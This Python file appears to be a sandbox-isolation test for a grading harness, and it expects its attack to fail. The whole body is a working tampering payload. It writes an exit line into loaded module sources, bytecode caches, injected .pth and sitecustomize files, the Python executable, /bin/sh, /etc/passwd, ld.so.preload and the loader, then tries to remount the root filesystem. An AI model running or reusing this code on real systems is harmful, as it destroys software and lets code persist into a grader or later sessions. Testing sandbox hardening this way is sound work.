"""Changes what every Python process imports.

victim: api
tries: to have its code run by the grader, or by the sandbox of the next submission
must: failed
shows: armed
seconds: 5
backends: docker-runc, docker-runsc
"""

import glob
import importlib.util
import os
import sys

from fastapi import FastAPI

app = FastAPI()


def poison(path, mode="a"):
    try:
        with open(path, mode) as file:
            file.write("\nimport os; os._exit(0)\n")
        print("BREACH: wrote", path)
    except OSError:
        pass


# variant: sources
for module in list(sys.modules.values()):
    if (getattr(module, "__file__", None) or __file__) != __file__:
        poison(module.__file__)
print("armed")

# variant: byte_code
for name in ("json", "pytest", "httpx2", "harness.session", "harness.plugin", "fastapi"):
    spec = importlib.util.find_spec(name)
    if spec is not None and spec.cached:
        poison(spec.cached, "w")
        poison(spec.cached + ".new", "w")
print("armed")

# variant: packages
for folder in [*sys.path, *glob.glob("/opt/greenroom/lib/*/site-packages"), "/usr/lib/python3"]:
    if folder.startswith(("/opt", "/usr")):
        poison(os.path.join(folder, "greenroom.pth"))
        poison(os.path.join(folder, "sitecustomize.py"), "w")
print("armed")

# variant: programs
for path in (sys.executable, "/bin/sh", "/bin/true", "/etc/passwd", "/etc/ld.so.preload",
             "/lib64/ld-linux-x86-64.so.2", "/etc/hosts", "/etc/resolv.conf", "/etc/hostname"):
    poison(path)
print("armed")

# variant: remount
import ctypes

libc = ctypes.CDLL(None)
if libc.mount(b"none", b"/", None, 32 | 4096, None) == 0:
    print("BREACH: remounted")
print("armed")
